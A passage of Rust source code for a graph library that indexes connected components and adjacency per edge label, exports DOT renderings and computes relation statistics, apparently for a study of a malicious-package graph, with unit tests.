    /// Builds the index for the subgraph of edges whose label passes
    /// `filter`.
    ///
    /// The union-find runs over the out-adjacency in node order — the
    /// identical sequence [`PropertyGraph::components`] performs — and
    /// components are collected under the same root-keyed ordering, so
    /// [`ComponentIndex::components`] equals a fresh
    /// [`PropertyGraph::components`] call bit for bit.
    pub fn build<N, L: Copy + Eq>(
        graph: &PropertyGraph<N, L>,
        mut filter: impl FnMut(&L) -> bool,
    ) -> ComponentIndex {
        let mut b = Builder::new(graph.node_count());
        for id in graph.node_ids() {
            for &(to, ref label) in graph.out_edges(id) {
                if filter(label) {
                    b.union(id.index(), to.index());
                }
            }
        }
        b.finish()
    }

    /// Builds one index per label in a single adjacency traversal.
    ///
    /// Each edge is dispatched to the accumulator of its label (edges
    /// whose label is not listed are skipped), so every label sees the
    /// exact union sequence a dedicated filtered [`ComponentIndex::build`]
    /// would perform — the results are element-for-element identical —
    /// while the multi-million-entry edge lists are walked once instead
    /// of once per label.
    pub fn build_many<N, L: Copy + Eq>(
        graph: &PropertyGraph<N, L>,
        labels: &[L],
    ) -> Vec<ComponentIndex> {
        let n = graph.node_count();
        let mut builders: Vec<Builder> = labels.iter().map(|_| Builder::new(n)).collect();
        for id in graph.node_ids() {
            for &(to, ref label) in graph.out_edges(id) {
                if let Some(slot) = labels.iter().position(|l| l == label) {
                    builders[slot].union(id.index(), to.index());
                }
            }
        }
        builders.into_iter().map(Builder::finish).collect()
    }

    /// Extends the index over nodes appended to the graph since it was
    /// built: every label edge incident to a node index `>= from` is
    /// replayed into the retained union-find, and the component
    /// collection is redone from the grown forest.
    ///
    /// `from` must be the node count the index was built (or last
    /// extended) at. The caller must guarantee the *append-only*
    /// contract for this label: no label edge touching a node `< from`
    /// was added, removed, or reordered since then. Under that contract
    /// the union sequence seen by the forest is "old sequence, then the
    /// suffix in node order" — exactly what [`ComponentIndex::build`]
    /// performs on the final graph, where appended nodes sort after all
    /// old node ids — so the extended index is byte-identical to a
    /// fresh build (union-by-size roots depend only on the union
    /// sequence; path halving never changes a root).
    pub fn extend<N, L: Copy + Eq>(
        &mut self,
        graph: &PropertyGraph<N, L>,
        mut filter: impl FnMut(&L) -> bool,
        from: usize,
    ) {
        let n = graph.node_count();
        assert_eq!(
            from,
            self.uf.len(),
            "extend must resume at the node count the index was built at"
        );
        self.uf.grow(n);
        self.touched.resize(n, false);
        for id in graph.node_ids().skip(from) {
            for &(to, ref label) in graph.out_edges(id) {
                if filter(label) {
                    debug_assert!(
                        to.index() >= from,
                        "append-only contract violated: new label edge reaches old node"
                    );
                    self.uf.union(id.index(), to.index());
                    self.touched[id.index()] = true;
                    self.touched[to.index()] = true;
                    self.edges += 1;
                }
            }
        }
        let (components, group_of, nodes) = collect_components(&mut self.uf, &self.touched);
        self.components = components;
        self.group_of = group_of;
        self.nodes = nodes;
    }

    /// The node count the index was built (or last extended) at — the
    /// `from` a subsequent [`ComponentIndex::extend`] must resume from.
    pub fn node_watermark(&self) -> usize {
        self.uf.len()
    }

    /// The connected components, identical to what
    /// [`PropertyGraph::components`] returns for the same filter.
    pub fn components(&self) -> &[Vec<NodeId>] {
        &self.components
    }

    /// The component index of `node`, `None` when the node has no edge of
    /// this label.
    pub fn component_of(&self, node: NodeId) -> Option<usize> {
        match self.group_of.get(node.index()) {
            Some(&g) if g != NO_GROUP => Some(g as usize),
            _ => None,
        }
    }

    /// Members of `node`'s component (sorted ascending), `None` when the
    /// node is isolated under this label.
    pub fn component_members(&self, node: NodeId) -> Option<&[NodeId]> {
        self.component_of(node).map(|g| self.components[g].as_slice())
    }

    /// Nodes incident to at least one edge of the label.
    pub fn node_count(&self) -> usize {
        self.nodes
    }

    /// Directed edges of the label.
    pub fn edge_count(&self) -> usize {
        self.edges
    }

    /// Table-II statistics of the labeled subgraph, identical to
    /// [`RelationStats::compute`] over the same filter: incident-node and
    /// directed-edge counts were gathered during the build, and the
    /// average degree uses the same `edges / nodes` division.
    pub fn stats(&self) -> RelationStats {
        let avg = if self.nodes == 0 {
            0.0
        } else {
            self.edges as f64 / self.nodes as f64
        };
        RelationStats {
            nodes: self.nodes,
            edges: self.edges,
            avg_out_degree: avg,
            avg_in_degree: avg,
        }
    }
}

/// Immutable CSR snapshot of one label's out-adjacency.
#[derive(Debug, Clone)]
pub struct AdjacencyIndex {
    /// CSR offsets: the label-filtered out-neighbours of node `i` are
    /// `targets[offsets[i]..offsets[i + 1]]`, in the same order they
    /// appear in the underlying adjacency list.
    offsets: Vec<u32>,
    targets: Vec<NodeId>,
}

impl AdjacencyIndex {
    /// Builds the CSR snapshot for the subgraph of edges whose label
    /// passes `filter`.
    pub fn build<N, L: Copy + Eq>(
        graph: &PropertyGraph<N, L>,
        mut filter: impl FnMut(&L) -> bool,
    ) -> AdjacencyIndex {
        let n = graph.node_count();
        let mut offsets = Vec::with_capacity(n + 1);
        let mut targets = Vec::new();
        offsets.push(0u32);
        for id in graph.node_ids() {
            for &(to, ref label) in graph.out_edges(id) {
                if filter(label) {
                    targets.push(to);
                }
            }
            offsets.push(u32::try_from(targets.len()).expect("graph too large"));
        }
        AdjacencyIndex { offsets, targets }
    }

    /// Appends CSR rows for nodes added to the graph since the snapshot
    /// was built. `from` must be the node count the snapshot covers
    /// (`offsets.len() - 1`), and the caller must guarantee the
    /// append-only contract for this label: the out-adjacency of every
    /// node `< from` is unchanged, so the old rows stay valid and only
    /// the suffix rows need materialising. The result is byte-identical
    /// to a fresh [`AdjacencyIndex::build`] over the final graph.
    pub fn extend<N, L: Copy + Eq>(
        &mut self,
        graph: &PropertyGraph<N, L>,
        mut filter: impl FnMut(&L) -> bool,
        from: usize,
    ) {
        assert_eq!(
            from,
            self.offsets.len() - 1,
            "extend must resume at the node count the snapshot was built at"
        );
        for id in graph.node_ids().skip(from) {
            for &(to, ref label) in graph.out_edges(id) {
                if filter(label) {
                    self.targets.push(to);
                }
            }
            self.offsets
                .push(u32::try_from(self.targets.len()).expect("graph too large"));
        }
    }

    /// The node count the snapshot covers — the `from` a subsequent
    /// [`AdjacencyIndex::extend`] must resume from.
    pub fn node_watermark(&self) -> usize {
        self.offsets.len() - 1
    }

    /// Label-filtered out-neighbours of `node`, from the CSR snapshot.
    pub fn neighbors(&self, node: NodeId) -> &[NodeId] {
        let i = node.index();
        let lo = self.offsets[i] as usize;
        let hi = self.offsets[i + 1] as usize;
        &self.targets[lo..hi]
    }

    /// Nodes reachable from `start` over the CSR snapshot, including
    /// `start`, sorted ascending — byte-identical to
    /// [`PropertyGraph::reachable`] with the same filter (the BFS visits
    /// neighbours in the same order, and both sort the result).
    ///
    /// # Panics
    ///
    /// Panics if `start` is not a node of the indexed graph.
    pub fn reachable(&self, start: NodeId) -> Vec<NodeId> {
        let n = self.offsets.len() - 1;
        assert!(start.index() < n, "unknown start node");
        let mut seen = vec![false; n];
        let mut queue = std::collections::VecDeque::new();
        seen[start.index()] = true;
        queue.push_back(start);
        let mut out = Vec::new();
        while let Some(cur) = queue.pop_front() {
            out.push(cur);
            for &next in self.neighbors(cur) {
                if !seen[next.index()] {
                    seen[next.index()] = true;
                    queue.push_back(next);
                }
            }
        }
        out.sort_unstable();
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
    enum Rel {
        Dup,
        Dep,
    }

    fn sample() -> (PropertyGraph<u32, Rel>, Vec<NodeId>) {
        let mut g = PropertyGraph::new();
        let ids: Vec<NodeId> = (0..6).map(|i| g.add_node(i)).collect();
        g.add_undirected_edge(ids[0], ids[1], Rel::Dup);
        g.add_undirected_edge(ids[1], ids[2], Rel::Dup);
        g.add_undirected_edge(ids[4], ids[5], Rel::Dup);
        g.add_edge(ids[3], ids[0], Rel::Dep);
        (g, ids)
    }

    #[test]
    fn components_match_fresh_computation() {
        let (g, _) = sample();
        for filter in [Rel::Dup, Rel::Dep] {
            let index = ComponentIndex::build(&g, |l| *l == filter);
            assert_eq!(index.components(), &g.components(|l| *l == filter)[..]);
        }
    }

    #[test]
    fn build_many_matches_individual_builds() {
        let (g, _) = sample();
        let many = ComponentIndex::build_many(&g, &[Rel::Dup, Rel::Dep]);
        for (i, filter) in [Rel::Dup, Rel::Dep].into_iter().enumerate() {
            let single = ComponentIndex::build(&g, |l| *l == filter);
            assert_eq!(many[i].components(), single.components());
            assert_eq!(many[i].node_count(), single.node_count());
            assert_eq!(many[i].edge_count(), single.edge_count());
            assert_eq!(many[i].stats(), single.stats());
        }
    }

    #[test]
    fn membership_and_counts() {
        let (g, ids) = sample();
        let index = ComponentIndex::build(&g, |l| *l == Rel::Dup);
        assert_eq!(index.component_of(ids[0]), index.component_of(ids[2]));
        assert_ne!(index.component_of(ids[0]), index.component_of(ids[4]));
        assert_eq!(index.component_of(ids[3]), None);
        assert_eq!(index.component_members(ids[4]), Some(&[ids[4], ids[5]][..]));
        assert_eq!(index.node_count(), 5);
        assert_eq!(index.edge_count(), 6);
    }

    #[test]
    fn stats_match_direct_computation() {
        let (g, _) = sample();
        for filter in [Rel::Dup, Rel::Dep] {
            let index = ComponentIndex::build(&g, |l| *l == filter);
            assert_eq!(index.stats(), RelationStats::compute(&g, |l| *l == filter));
        }
    }

    #[test]
    fn reachable_matches_graph_bfs() {
        let (g, ids) = sample();
        for filter in [Rel::Dup, Rel::Dep] {
            let index = AdjacencyIndex::build(&g, |l| *l == filter);
            for &id in &ids {
                assert_eq!(index.reachable(id), g.reachable(id, |l| *l == filter));
            }
        }
    }

    #[test]
    fn csr_neighbors_preserve_adjacency_order() {
        let (g, ids) = sample();
        let index = AdjacencyIndex::build(&g, |l| *l == Rel::Dup);
        let expected: Vec<NodeId> = g
            .out_edges(ids[1])
            .iter()
            .filter(|&&(_, l)| l == Rel::Dup)
            .map(|&(to, _)| to)
            .collect();
        assert_eq!(index.neighbors(ids[1]), &expected[..]);
    }

    #[test]
    fn extend_matches_fresh_build_after_append_only_growth() {
        let (mut g, ids) = sample();
        let mut index = ComponentIndex::build(&g, |l| *l == Rel::Dup);
        let mut adjacency = AdjacencyIndex::build(&g, |l| *l == Rel::Dup);
        let before = g.node_count();
        // Append a clique of new nodes plus a non-label edge to an old
        // node: Dup stays append-only, Dep may do anything.
        let a = g.add_node(10);
        let b = g.add_node(11);
        let c = g.add_node(12);
        g.add_undirected_edge(a, b, Rel::Dup);
        g.add_undirected_edge(b, c, Rel::Dup);
        g.add_undirected_edge(a, c, Rel::Dup);
        g.add_edge(c, ids[0], Rel::Dep);
        index.extend(&g, |l| *l == Rel::Dup, before);
        adjacency.extend(&g, |l| *l == Rel::Dup, before);
        let fresh = ComponentIndex::build(&g, |l| *l == Rel::Dup);
        assert_eq!(index.components(), fresh.components());
        assert_eq!(index.node_count(), fresh.node_count());
        assert_eq!(index.edge_count(), fresh.edge_count());
        assert_eq!(index.stats(), fresh.stats());
        for id in g.node_ids() {
            assert_eq!(index.component_of(id), fresh.component_of(id));
        }
        let fresh_adj = AdjacencyIndex::build(&g, |l| *l == Rel::Dup);
        for id in g.node_ids() {
            assert_eq!(adjacency.neighbors(id), fresh_adj.neighbors(id));
            assert_eq!(adjacency.reachable(id), fresh_adj.reachable(id));
        }
    }

    #[test]
    #[should_panic(expected = "must resume at the node count")]
    fn extend_from_wrong_watermark_panics() {
        let (mut g, _) = sample();
        let mut index = ComponentIndex::build(&g, |l| *l == Rel::Dup);
        g.add_node(9);
        index.extend(&g, |l| *l == Rel::Dup, 2);
    }

    #[test]
    fn empty_label_yields_empty_index() {
        let (g, ids) = sample();
        let index = ComponentIndex::build(&g, |_| false);
        assert!(index.components().is_empty());
        assert_eq!(index.node_count(), 0);
        assert_eq!(index.edge_count(), 0);
        let adjacency = AdjacencyIndex::build(&g, |_| false);
        assert!(adjacency.neighbors(ids[0]).is_empty());
        assert_eq!(adjacency.reachable(ids[0]), vec![ids[0]]);
    }
}
