//! Cached per-label query structures: components + CSR adjacency.
//!
//! [`PropertyGraph::components`] re-walks every `Vec<(NodeId, L)>`
//! adjacency list and re-runs the union-find on each call. The analysis
//! layer asks the same label-restricted questions over and over (every
//! paper table/figure is a census over one relation's components), so
//! this module computes the answer once and snapshots it:
//!
//! * [`ComponentIndex`] — the connected components, in exactly the order
//!   [`PropertyGraph::components`] returns them (the index replays the
//!   same union sequence and the same root-keyed collection, so cached
//!   and fresh results are byte-identical), plus a node → component map
//!   for O(1) membership queries and the Table-II node/edge counts.
//!   [`ComponentIndex::build_many`] amortises one adjacency traversal
//!   over every label of interest — on a graph whose similarity relation
//!   alone carries tens of millions of directed edges, re-walking the
//!   full edge list once per label is the dominant cost.
//! * [`AdjacencyIndex`] — a CSR (compressed sparse row) snapshot of one
//!   label's out-adjacency, for traversal queries. Kept separate from
//!   [`ComponentIndex`] deliberately: materialising the CSR for a
//!   multi-million-edge label costs hundreds of megabytes, while the
//!   traversal queries only ever run over sparse labels.
//!
//! Both indexes are snapshots: they do **not** observe later mutations
//! of the graph. Build them after construction is complete (the MALGRAPH
//! builder finishes all five edge stages before any analysis runs).

use crate::stats::RelationStats;
use crate::{unionfind, NodeId, PropertyGraph};

/// Marker for "not in any component of this label".
const NO_GROUP: u32 = u32::MAX;

/// Immutable per-label component index.
#[derive(Debug, Clone)]
pub struct ComponentIndex {
    components: Vec<Vec<NodeId>>,
    /// Node index → component index, [`NO_GROUP`] when the node has no
    /// edge of the label.
    group_of: Vec<u32>,
    /// Nodes incident to at least one edge of the label.
    nodes: usize,
    /// Directed edges of the label.
    edges: usize,
}

/// The per-label accumulator state of [`ComponentIndex::build_many`].
struct Builder {
    uf: unionfind::UnionFind,
    touched: Vec<bool>,
    edges: usize,
}

impl Builder {
    fn new(n: usize) -> Builder {
        Builder {
            uf: unionfind::UnionFind::new(n),
            touched: vec![false; n],
            edges: 0,
        }
    }

    fn union(&mut self, from: usize, to: usize) {
        self.uf.union(from, to);
        self.touched[from] = true;
        self.touched[to] = true;
        self.edges += 1;
    }

    fn finish(mut self) -> ComponentIndex {
        let mut by_root: std::collections::BTreeMap<usize, Vec<NodeId>> =
            std::collections::BTreeMap::new();
        for (i, &is_touched) in self.touched.iter().enumerate() {
            if is_touched {
                by_root
                    .entry(self.uf.find(i))
                    .or_default()
                    .push(NodeId::from_index(i));
            }
        }
        let components: Vec<Vec<NodeId>> = by_root.into_values().collect();
        let mut group_of = vec![NO_GROUP; self.touched.len()];
        let mut nodes = 0usize;
        for (g, comp) in components.iter().enumerate() {
            nodes += comp.len();
            for &member in comp {
                group_of[member.index()] = u32::try_from(g).expect("graph too large");
            }
        }
        ComponentIndex {
            components,
            group_of,
            nodes,
            edges: self.edges,
        }
    }
}

impl ComponentIndex {
    /// Builds the index for the subgraph of edges whose label passes
    /// `filter`.
    ///
    /// The union-find runs over the out-adjacency in node order — the
    /// identical sequence [`PropertyGraph::components`] performs — and
    /// components are collected under the same root-keyed ordering, so
    /// [`ComponentIndex::components`] equals a fresh
    /// [`PropertyGraph::components`] call bit for bit.
    pub fn build<N, L: Copy + Eq>(
        graph: &PropertyGraph<N, L>,
        mut filter: impl FnMut(&L) -> bool,
    ) -> ComponentIndex {
        let mut b = Builder::new(graph.node_count());
        for id in graph.node_ids() {
            for &(to, ref label) in graph.out_edges(id) {
                if filter(label) {
                    b.union(id.index(), to.index());
                }
            }
        }
        b.finish()
    }

    /// Builds one index per label in a single adjacency traversal.
    ///
    /// Each edge is dispatched to the accumulator of its label (edges
    /// whose label is not listed are skipped), so every label sees the
    /// exact union sequence a dedicated filtered [`ComponentIndex::build`]
    /// would perform — the results are element-for-element identical —
    /// while the multi-million-entry edge lists are walked once instead
    /// of once per label.
    pub fn build_many<N, L: Copy + Eq>(
        graph: &PropertyGraph<N, L>,
        labels: &[L],
    ) -> Vec<ComponentIndex> {
        let n = graph.node_count();
        let mut builders: Vec<Builder> = labels.iter().map(|_| Builder::new(n)).collect();
        for id in graph.node_ids() {
            for &(to, ref label) in graph.out_edges(id) {
                if let Some(slot) = labels.iter().position(|l| l == label) {
                    builders[slot].union(id.index(), to.index());
                }
            }
        }
        builders.into_iter().map(Builder::finish).collect()
    }

    /// The connected components, identical to what
    /// [`PropertyGraph::components`] returns for the same filter.
    pub fn components(&self) -> &[Vec<NodeId>] {
        &self.components
    }

    /// The component index of `node`, `None` when the node has no edge of
    /// this label.
    pub fn component_of(&self, node: NodeId) -> Option<usize> {
        match self.group_of.get(node.index()) {
            Some(&g) if g != NO_GROUP => Some(g as usize),
            _ => None,
        }
    }

    /// Members of `node`'s component (sorted ascending), `None` when the
    /// node is isolated under this label.
    pub fn component_members(&self, node: NodeId) -> Option<&[NodeId]> {
        self.component_of(node).map(|g| self.components[g].as_slice())
    }

    /// Nodes incident to at least one edge of the label.
    pub fn node_count(&self) -> usize {
        self.nodes
    }

    /// Directed edges of the label.
    pub fn edge_count(&self) -> usize {
        self.edges
    }

    /// Table-II statistics of the labeled subgraph, identical to
    /// [`RelationStats::compute`] over the same filter: incident-node and
    /// directed-edge counts were gathered during the build, and the
    /// average degree uses the same `edges / nodes` division.
    pub fn stats(&self) -> RelationStats {
        let avg = if self.nodes == 0 {
            0.0
        } else {
            self.edges as f64 / self.nodes as f64
        };
        RelationStats {
            nodes: self.nodes,
            edges: self.edges,
            avg_out_degree: avg,
            avg_in_degree: avg,
        }
    }
}

/// Immutable CSR snapshot of one label's out-adjacency.
#[derive(Debug, Clone)]
pub struct AdjacencyIndex {
    /// CSR offsets: the label-filtered out-neighbours of node `i` are
    /// `targets[offsets[i]..offsets[i + 1]]`, in the same order they
    /// appear in the underlying adjacency list.
    offsets: Vec<u32>,
    targets: Vec<NodeId>,
}

impl AdjacencyIndex {
    /// Builds the CSR snapshot for the subgraph of edges whose label
    /// passes `filter`.
    pub fn build<N, L: Copy + Eq>(
        graph: &PropertyGraph<N, L>,
        mut filter: impl FnMut(&L) -> bool,
    ) -> AdjacencyIndex {
        let n = graph.node_count();
        let mut offsets = Vec::with_capacity(n + 1);
        let mut targets = Vec::new();
        offsets.push(0u32);
        for id in graph.node_ids() {
            for &(to, ref label) in graph.out_edges(id) {
                if filter(label) {
                    targets.push(to);
                }
            }
            offsets.push(u32::try_from(targets.len()).expect("graph too large"));
        }
        AdjacencyIndex { offsets, targets }
    }

    /// Label-filtered out-neighbours of `node`, from the CSR snapshot.
    pub fn neighbors(&self, node: NodeId) -> &[NodeId] {
        let i = node.index();
        let lo = self.offsets[i] as usize;
        let hi = self.offsets[i + 1] as usize;
        &self.targets[lo..hi]
    }

    /// Nodes reachable from `start` over the CSR snapshot, including
    /// `start`, sorted ascending — byte-identical to
    /// [`PropertyGraph::reachable`] with the same filter (the BFS visits
    /// neighbours in the same order, and both sort the result).
    ///
    /// # Panics
    ///
    /// Panics if `start` is not a node of the indexed graph.
    pub fn reachable(&self, start: NodeId) -> Vec<NodeId> {
        let n = self.offsets.len() - 1;
        assert!(start.index() < n, "unknown start node");
        let mut seen = vec![false; n];
        let mut queue = std::collections::VecDeque::new();
        seen[start.index()] = true;
        queue.push_back(start);
        let mut out = Vec::new();
        while let Some(cur) = queue.pop_front() {
            out.push(cur);
            for &next in self.neighbors(cur) {
                if !seen[next.index()] {
                    seen[next.index()] = true;
                    queue.push_back(next);
                }
            }
        }
        out.sort_unstable();
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
    enum Rel {
        Dup,
        Dep,
    }

    fn sample() -> (PropertyGraph<u32, Rel>, Vec<NodeId>) {
        let mut g = PropertyGraph::new();
        let ids: Vec<NodeId> = (0..6).map(|i| g.add_node(i)).collect();
        g.add_undirected_edge(ids[0], ids[1], Rel::Dup);
        g.add_undirected_edge(ids[1], ids[2], Rel::Dup);
        g.add_undirected_edge(ids[4], ids[5], Rel::Dup);
        g.add_edge(ids[3], ids[0], Rel::Dep);
        (g, ids)
    }

    #[test]
    fn components_match_fresh_computation() {
        let (g, _) = sample();
        for filter in [Rel::Dup, Rel::Dep] {
            let index = ComponentIndex::build(&g, |l| *l == filter);
            assert_eq!(index.components(), &g.components(|l| *l == filter)[..]);
        }
    }

    #[test]
    fn build_many_matches_individual_builds() {
        let (g, _) = sample();
        let many = ComponentIndex::build_many(&g, &[Rel::Dup, Rel::Dep]);
        for (i, filter) in [Rel::Dup, Rel::Dep].into_iter().enumerate() {
            let single = ComponentIndex::build(&g, |l| *l == filter);
            assert_eq!(many[i].components(), single.components());
            assert_eq!(many[i].node_count(), single.node_count());
            assert_eq!(many[i].edge_count(), single.edge_count());
            assert_eq!(many[i].stats(), single.stats());
        }
    }

    #[test]
    fn membership_and_counts() {
        let (g, ids) = sample();
        let index = ComponentIndex::build(&g, |l| *l == Rel::Dup);
        assert_eq!(index.component_of(ids[0]), index.component_of(ids[2]));
        assert_ne!(index.component_of(ids[0]), index.component_of(ids[4]));
        assert_eq!(index.component_of(ids[3]), None);
        assert_eq!(index.component_members(ids[4]), Some(&[ids[4], ids[5]][..]));
        assert_eq!(index.node_count(), 5);
        assert_eq!(index.edge_count(), 6);
    }

    #[test]
    fn stats_match_direct_computation() {
        let (g, _) = sample();
        for filter in [Rel::Dup, Rel::Dep] {
            let index = ComponentIndex::build(&g, |l| *l == filter);
            assert_eq!(index.stats(), RelationStats::compute(&g, |l| *l == filter));
        }
    }

    #[test]
    fn reachable_matches_graph_bfs() {
        let (g, ids) = sample();
        for filter in [Rel::Dup, Rel::Dep] {
            let index = AdjacencyIndex::build(&g, |l| *l == filter);
            for &id in &ids {
                assert_eq!(index.reachable(id), g.reachable(id, |l| *l == filter));
            }
        }
    }

    #[test]
    fn csr_neighbors_preserve_adjacency_order() {
        let (g, ids) = sample();
        let index = AdjacencyIndex::build(&g, |l| *l == Rel::Dup);
        let expected: Vec<NodeId> = g
            .out_edges(ids[1])
            .iter()
            .filter(|&&(_, l)| l == Rel::Dup)
            .map(|&(to, _)| to)
            .collect();
        assert_eq!(index.neighbors(ids[1]), &expected[..]);
    }

    #[test]
    fn empty_label_yields_empty_index() {
        let (g, ids) = sample();
        let index = ComponentIndex::build(&g, |_| false);
        assert!(index.components().is_empty());
        assert_eq!(index.node_count(), 0);
        assert_eq!(index.edge_count(), 0);
        let adjacency = AdjacencyIndex::build(&g, |_| false);
        assert!(adjacency.neighbors(ids[0]).is_empty());
        assert_eq!(adjacency.reachable(ids[0]), vec![ids[0]]);
    }
}
