//! Graphviz DOT export for Fig.-3-style group renderings.

use crate::{NodeId, PropertyGraph};
use std::collections::HashSet;
use std::fmt::Write as _;

/// Renders the subgraph induced by `nodes` (or the whole graph if `None`)
/// as a DOT document. Symmetric edge pairs are merged into one undirected
/// DOT edge; `node_label` / `edge_label` control rendering.
pub fn to_dot<N, L: Copy + Eq>(
    graph: &PropertyGraph<N, L>,
    nodes: Option<&[NodeId]>,
    mut node_label: impl FnMut(NodeId, &N) -> String,
    mut edge_label: impl FnMut(&L) -> String,
) -> String {
    let included: Option<HashSet<NodeId>> = nodes.map(|ns| ns.iter().copied().collect());
    let keep = |id: NodeId| included.as_ref().is_none_or(|set| set.contains(&id));

    let mut out = String::from("graph malgraph {\n  node [shape=box, fontsize=10];\n");
    for (id, payload) in graph.nodes() {
        if keep(id) {
            let _ = writeln!(out, "  {id} [label=\"{}\"];", escape(&node_label(id, payload)));
        }
    }
    // Merge (a→b, b→a) pairs: emit each undirected edge once (a < b), and
    // any asymmetric edge as a directed-style annotation.
    let mut emitted: HashSet<(NodeId, NodeId)> = HashSet::new();
    for edge in graph.edges() {
        if !keep(edge.from) || !keep(edge.to) {
            continue;
        }
        let key = if edge.from <= edge.to {
            (edge.from, edge.to)
        } else {
            (edge.to, edge.from)
        };
        if emitted.contains(&key) {
            continue;
        }
        emitted.insert(key);
        let _ = writeln!(
            out,
            "  {} -- {} [label=\"{}\"];",
            key.0,
            key.1,
            escape(&edge_label(&edge.label))
        );
    }
    out.push_str("}\n");
    out
}

/// Escapes a label for use inside a double-quoted DOT string. Besides
/// backslash and quote, every C0 control character must be neutralised:
/// a raw newline in a label terminates the quoted string early and the
/// rest of the name is reparsed as DOT syntax. `\n`/`\r`/`\t` keep their
/// readable escapes (DOT understands `\n` as a line break in labels);
/// the remaining controls have no DOT escape and are rendered as
/// visible `\xNN` hex placeholders.
fn escape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '\\' => out.push_str("\\\\"),
            '"' => out.push_str("\\\""),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => {
                let _ = write!(out, "\\\\x{:02x}", c as u32);
            }
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn renders_nodes_and_merged_edges() {
        let mut g: PropertyGraph<&str, &str> = PropertyGraph::new();
        let a = g.add_node("colorslib");
        let b = g.add_node("httpslib");
        g.add_undirected_edge(a, b, "coexist");
        let dot = to_dot(&g, None, |_, n| n.to_string(), |l| l.to_string());
        assert!(dot.contains("n0 [label=\"colorslib\"]"));
        assert!(dot.contains("n1 [label=\"httpslib\"]"));
        // Two directed edges merge into a single undirected DOT edge.
        assert_eq!(dot.matches(" -- ").count(), 1);
        assert!(dot.contains("label=\"coexist\""));
    }

    #[test]
    fn induced_subgraph_filters_nodes_and_edges() {
        let mut g: PropertyGraph<u8, u8> = PropertyGraph::new();
        let a = g.add_node(0);
        let b = g.add_node(1);
        let c = g.add_node(2);
        g.add_undirected_edge(a, b, 1);
        g.add_undirected_edge(b, c, 1);
        let dot = to_dot(&g, Some(&[a, b]), |id, _| id.to_string(), |_| String::new());
        assert!(dot.contains("n0"));
        assert!(dot.contains("n1"));
        assert!(!dot.contains("n2"));
        assert_eq!(dot.matches(" -- ").count(), 1);
    }

    #[test]
    fn labels_are_escaped() {
        let mut g: PropertyGraph<&str, &str> = PropertyGraph::new();
        g.add_node("with \"quotes\"");
        g.add_node("line\nbreak\ttab\rcr");
        g.add_node("bell\u{0007}and\u{001b}escape");
        let dot = to_dot(&g, None, |_, n| n.to_string(), |l| l.to_string());
        assert!(dot.contains("\\\"quotes\\\""));
        // Control characters must never reach the output raw: a literal
        // newline inside label="…" terminates the quoted string early.
        assert!(dot.contains("line\\nbreak\\ttab\\rcr"));
        assert!(dot.contains("bell\\\\x07and\\\\x1bescape"));
        for line in dot.lines() {
            assert!(
                line.chars().all(|c| c == ' ' || !c.is_control()),
                "raw control character leaked into DOT line {line:?}"
            );
        }
    }

    #[test]
    fn empty_graph_is_valid_dot() {
        let g: PropertyGraph<(), ()> = PropertyGraph::new();
        let dot = to_dot(&g, None, |_, _| String::new(), |_| String::new());
        assert!(dot.starts_with("graph malgraph {"));
        assert!(dot.trim_end().ends_with('}'));
    }
}
