//! Graph statistics in the shape of the paper's Table II.

use crate::PropertyGraph;

/// Node/edge/degree summary for one relation subgraph (one row of the
/// paper's Table II).
#[derive(Debug, Clone, PartialEq)]
pub struct RelationStats {
    /// Nodes incident to at least one edge of the relation.
    pub nodes: usize,
    /// Directed edges of the relation.
    pub edges: usize,
    /// Average out-degree over incident nodes.
    pub avg_out_degree: f64,
    /// Average in-degree over incident nodes.
    pub avg_in_degree: f64,
}

impl RelationStats {
    /// Computes stats for the subgraph of edges whose label passes
    /// `filter`. Degree averages are over *incident* nodes only, matching
    /// Table II (e.g. DG: 2,475 nodes, 316,122 edges, 127.72 average).
    pub fn compute<N, L: Copy + Eq>(
        graph: &PropertyGraph<N, L>,
        mut filter: impl FnMut(&L) -> bool,
    ) -> RelationStats {
        let mut nodes = 0usize;
        let mut edges = 0usize;
        for id in graph.node_ids() {
            let out = graph.out_degree_by(id, &mut filter);
            let inn = graph.in_degree_by(id, &mut filter);
            if out + inn > 0 {
                nodes += 1;
            }
            edges += out;
        }
        let avg = if nodes == 0 {
            0.0
        } else {
            edges as f64 / nodes as f64
        };
        RelationStats {
            nodes,
            edges,
            // Symmetric storage ⇒ identical averages; computed once.
            avg_out_degree: avg,
            avg_in_degree: avg,
        }
    }

    /// [`RelationStats::compute`] for every label at once, in a single
    /// traversal of the out-adjacency: each edge increments its label's
    /// edge counter and marks both endpoints incident. Walking the edge
    /// lists dominates on dense graphs, so one pass over all labels beats
    /// one pass per label by the number of labels.
    pub fn compute_many<N, L: Copy + Eq>(
        graph: &PropertyGraph<N, L>,
        labels: &[L],
    ) -> Vec<RelationStats> {
        let n = graph.node_count();
        let mut edges = vec![0usize; labels.len()];
        let mut touched = vec![vec![false; n]; labels.len()];
        for id in graph.node_ids() {
            for &(to, ref label) in graph.out_edges(id) {
                if let Some(slot) = labels.iter().position(|l| l == label) {
                    edges[slot] += 1;
                    touched[slot][id.index()] = true;
                    touched[slot][to.index()] = true;
                }
            }
        }
        labels
            .iter()
            .enumerate()
            .map(|(slot, _)| {
                let nodes = touched[slot].iter().filter(|&&t| t).count();
                let avg = if nodes == 0 {
                    0.0
                } else {
                    edges[slot] as f64 / nodes as f64
                };
                RelationStats {
                    nodes,
                    edges: edges[slot],
                    avg_out_degree: avg,
                    avg_in_degree: avg,
                }
            })
            .collect()
    }
}

/// Size distribution helpers for component censuses (Table VII, Fig. 4).
#[derive(Debug, Clone, PartialEq)]
pub struct GroupCensus {
    /// Number of groups (connected components).
    pub group_count: usize,
    /// Mean component size.
    pub avg_size: f64,
    /// Largest component size, 0 when empty.
    pub max_size: usize,
    /// Every component size, descending.
    pub sizes: Vec<usize>,
}

impl GroupCensus {
    /// Summarizes a component list.
    pub fn from_components<T>(components: &[Vec<T>]) -> GroupCensus {
        GroupCensus::from_sizes(components.iter().map(Vec::len))
    }

    /// Summarizes a component-size sequence directly — what cached
    /// component indexes feed, where materializing the member lists again
    /// would be pure copying.
